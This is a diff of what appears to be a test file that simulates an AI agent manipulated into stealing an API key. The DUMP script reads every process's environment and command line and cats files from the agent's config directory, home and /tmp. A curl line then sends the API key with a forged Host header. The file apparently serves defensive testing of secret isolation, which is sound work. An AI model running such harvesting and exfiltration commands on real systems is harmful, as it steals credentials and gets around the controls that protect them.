@@ -27,14 +27,15 @@ ANSWER = "The search is done."
 
 # What an agent talked into stealing the key would do: read everything it can (DUMP: into $d), try the
 # route with a forged Host, send the placeholder to another allowed host, go to the API host around the route.
-DUMP = r"""
+DUMP_INTO = r"""
 d=/tmp/chtop-search.txt; : > "$d"
 for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" >> "$d" 2>/dev/null; done
-for top in "$CLAUDE_CONFIG_DIR" "$HOME" /tmp "$PWD"; do
+for top in @CONFIG@ "$HOME" /tmp "$PWD"; do
   find "$top" -xdev -type f ! -name chtop-search.txt ! -name search-dump.txt -size -5M -print0 2>/dev/null \
     | xargs -0 cat >> "$d" 2>/dev/null
 done
-"""
+"""   # @CONFIG@: the agent's config dir, as the shell inside names it
+DUMP = DUMP_INTO.replace("@CONFIG@", '"$CLAUDE_CONFIG_DIR"')
 SEARCH = DUMP + r"""
 echo "placeholders: $(grep -c chtop-placeholder "$d")"
 curl -s -o /dev/null -w 'forged:%{http_code}\n' -H 'Host: @API@' -H "x-api-key: $ANTHROPIC_API_KEY" \
